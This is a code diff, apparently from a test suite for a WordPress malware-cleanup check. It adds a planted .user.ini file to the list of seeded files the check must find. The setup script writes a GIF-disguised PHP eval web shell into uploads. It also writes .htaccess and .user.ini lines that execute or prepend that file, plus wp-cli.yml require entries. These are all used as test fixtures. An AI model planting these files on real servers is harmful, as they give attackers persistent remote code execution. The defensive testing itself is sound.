@@ -138,6 +138,7 @@ const PLANTED = {
     `${SITE.root}/wp-content/languages/en_US.l10n.php`,
     `${SITE.root}/wp-content/upgrade/wp-tmp.php`,
     '/var/www/example.com/.htaccess',
+    '/var/www/example.com/.user.ini',
     `${SITE.root}/wp-content/uploads/2026/11/${ESCAPED.shown}`,
     `${SITE.root}/wp-content/uploads/^[[2K/.htaccess`,
     `${SITE.root}/wp-content/plugins/${HEADERLESS_PLUGIN}`,
@@ -258,6 +259,7 @@ printf 'GIF89a<?= @eval($_POST["i"] ?? "") ?>' > wp-content/uploads/2026/11/favi
 echo '<?php // planted: core requires .maintenance on every load' > .maintenance
 mkdir -p wp-content/upgrade && echo '<?php // planted where step 4 reinstalls nothing' > wp-content/upgrade/wp-tmp.php
 echo 'AddHandler application/x-httpd-php .jpg' > /var/www/example.com/.htaccess
+echo 'auto_prepend_file = ${SITE.root}/wp-content/uploads/2026/11/.thumb.phtml' > /var/www/example.com/.user.ini
 mkdir -p wp-content/languages && echo '<?php // planted: WordPress 6.5+ includes a locale.l10n.php' > wp-content/languages/en_US.l10n.php
 echo 'require: wp-content/uploads/2026/11/.thumb.phtml' > wp-cli.yml
 echo 'require: public/wp-content/uploads/2026/11/.thumb.phtml' > /var/www/example.com/wp-cli.yml
@@ -855,6 +857,12 @@ export const wordpressSecurityRecipe: Recipe = {
       ref: CODE_FREE_CHECKS,
       edit: replace(' "${dir%/}"/.htaccess', ''),
       expect: /the code-free checks missed \/var\/www\/example\.com\/\.htaccess/,
+    },
+    {
+      what: 'drop .user.ini from the loop over the folders above the web root',
+      ref: CODE_FREE_CHECKS,
+      edit: replace(' "${dir%/}"/.user.ini', ''),
+      expect: /the code-free checks missed \/var\/www\/example\.com\/\.user\.ini/,
     },
     {
       what: "drop wp-cli*.yml from the site's find (the loop then misses one in the web root itself)",
